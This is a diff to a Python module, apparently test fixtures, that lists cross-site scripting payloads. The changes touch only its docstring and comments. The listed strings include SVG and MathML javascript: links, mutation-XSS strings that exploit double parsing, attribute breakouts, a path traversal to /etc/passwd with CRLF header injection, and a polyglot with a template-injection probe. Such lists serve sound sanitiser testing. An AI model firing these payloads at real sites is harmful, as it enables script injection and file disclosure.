@@ -1,4 +1,4 @@
-"""Texts that would rather be something else: what they become runs `alert`, or asks evil.example for something."""
+"""Texts that try to become markup or code. One that succeeds runs `alert` or sends a request to evil.example."""
 
 PAYLOADS = (
     # Tags
@@ -26,12 +26,12 @@ PAYLOADS = (
     "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
     "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
     "<math href='javascript:alert(1)'>x</math>",
-    # What becomes something else when a browser reads it twice
+    # Markup that changes its meaning when it is parsed a second time
     "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
     "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
     "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
     "<a title='x`><img src=x onerror=alert(1)>'>x</a>",
-    # Ends of what a text stands in
+    # Ends of what surrounds the text
     "\"><img src=x onerror=alert(1)>",
     "'><img src=x onerror=alert(1)>",
     "\" autofocus onfocus=alert(1) x=\"",
@@ -76,5 +76,5 @@ PAYLOADS = (
     "../../../../etc/passwd\r\nX-Injected: yes\r\n\r\n<script>alert(1)</script>",
 )  # fmt: skip
 ALL = " ".join(PAYLOADS)
-# Short enough for every field, and a way out of every place that a text can stand in.
+# Short enough for every field, and breaks out of every place where a text can be inserted.
 POLYGLOT = "'\"></title></textarea></script></template><img src=x onerror=alert(1)><svg onload=alert(1)>{{7*7}}"
